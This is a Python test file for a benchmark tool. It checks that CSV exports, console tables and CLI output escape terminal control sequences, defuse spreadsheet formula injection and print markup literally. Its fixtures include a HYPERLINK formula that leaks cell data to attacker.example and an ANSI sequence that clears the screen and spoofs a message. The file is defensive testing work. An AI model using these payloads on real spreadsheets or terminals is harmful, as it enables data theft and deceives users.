"""Untrusted text in output: other programs read it as the same text and nothing else."""

import ast
import csv
import io
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from efficiency_bench.formatting import cell, visible
from efficiency_bench.ledger.export import openai
from efficiency_bench.report.tables.fit_and_ledger import ledger_table
from efficiency_bench.text_console import TextConsole
from tests.commands import command
from tests.ledger.factory import make_entry

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"see")'
CURSOR = "\x1b[2J\x1b[1;1Hall is well\x07\x9b31m"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Größe 日本 [x] 100 %", "Größe 日本 [x] 100 %"),
        ("two\nlines\tand a tab", "two\nlines\tand a tab"),
        ("\x1b[31mred", r"\x1b[31mred"),
        ("\x9b31mred", r"\x9b31mred"),
        ("over\rwritten", r"over\rwritten"),
        ("\u202egnp.exe", r"\u202egnp.exe"),
        ("half \ud83d", r"half \ud83d"),
        ("\x00\x07\x7f", r"\x00\x07\x7f"),
    ],
)
def test_terminal_control_characters_are_escaped(text, shown):
    assert visible(text) == shown
    assert visible(text).encode()


@given(st.text(max_size=40))
def test_only_control_characters_are_escaped(text):
    left = visible(text)
    assert not any((ord(c) < 32 and c not in "\n\t") or 127 <= ord(c) < 160 for c in left)
    harmless = "".join(c for c in text if c.isprintable())
    assert visible(harmless) == harmless


@pytest.mark.parametrize("first", [*"=+-@\t\r\n", "\uff1d", "\uff20"])
def test_no_cell_begins_as_a_formula(first):
    assert cell(f"{first}1+1")[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"


def test_cells_that_are_numbers_or_plain_words_stay():
    assert [cell(v) for v in (-1.5, 3, None, True, "resnet18", "a=b", "")] == [
        *(-1.5, 3, None, True),
        *("resnet18", "a=b", ""),
    ]


def test_the_leaderboards_columns_have_no_formula_and_nothing_for_a_terminal():
    entries = [make_entry(model=FORMULA, recipe=FORMULA, experiment=FORMULA, source=CURSOR)]
    text = openai(entries).text
    assert "\x1b" not in text
    rows = list(csv.reader(io.StringIO(text)))
    assert any(FORMULA in found for found in rows[1])
    assert not [found for found in rows[1] if found[:1] in ("=", "+", "-", "@")]


def test_markup_in_names_is_printed_literally_in_a_table():
    entry = make_entry(run_id="[/red][link=http://x]run[/link]:bomb:", end_reason="failed")
    screen = io.StringIO()
    console = TextConsole(file=screen, width=200, force_terminal=True, color_system=None)
    console.print(ledger_table([entry], wide=True))
    console.print(f"[bold]{entry.run_id}")
    assert screen.getvalue().count(entry.run_id) == 2
    assert "[bold]" in screen.getvalue()


def test_a_console_applies_styles_but_no_markup_in_text():
    screen = io.StringIO()
    console = TextConsole(file=screen, width=200, force_terminal=True, color_system="truecolor")
    console.print(CURSOR, style="bold", highlight=False)
    assert screen.getvalue().startswith("\x1b[1m")
    assert "\x1b[2J" not in screen.getvalue()
    assert r"\x1b[2J\x1b[1;1Hall is well\x07\x9b31m" in screen.getvalue()


def test_the_commands_print_text_of_files_literally(tmp_path):
    ledger = tmp_path / "ledger"
    ledger.mkdir()
    (ledger / "[red]\x1b[2J.json").write_text(make_entry(run_id="x\x1b[2J").model_dump_json())
    for verb in (("list",), ("export",), ("crossings",), ("show", "x\x1b[2J")):
        done = command("ledger", *verb, "--ledger", "ledger", cwd=tmp_path)
        assert "\x1b" not in done.stdout + done.stderr
        assert r"\x1b[2J" in done.stderr
    assert "\x1b" not in command("report", "--ledger", "led\x1b[2J", cwd=tmp_path).stderr


PACKAGE = Path(__file__).parent.parent / "efficiency_bench"
OWN_WORDS = {"text_console.py", "data/fetch.py"}
"""The console itself, and a bar that shows the names of our own sources."""


def called(path):
    return {
        node.func.id
        for node in ast.walk(ast.parse(path.read_text()))
        if isinstance(node, ast.Call) and isinstance(node.func, ast.Name)
    }


def test_every_command_prints_through_text_console():
    for path in PACKAGE.rglob("*.py"):
        name = str(path.relative_to(PACKAGE))
        if name.startswith("cli/") and name != "cli/shared.py":
            assert "print" not in called(path), name
        if name not in OWN_WORDS:
            assert "Console" not in called(path), name
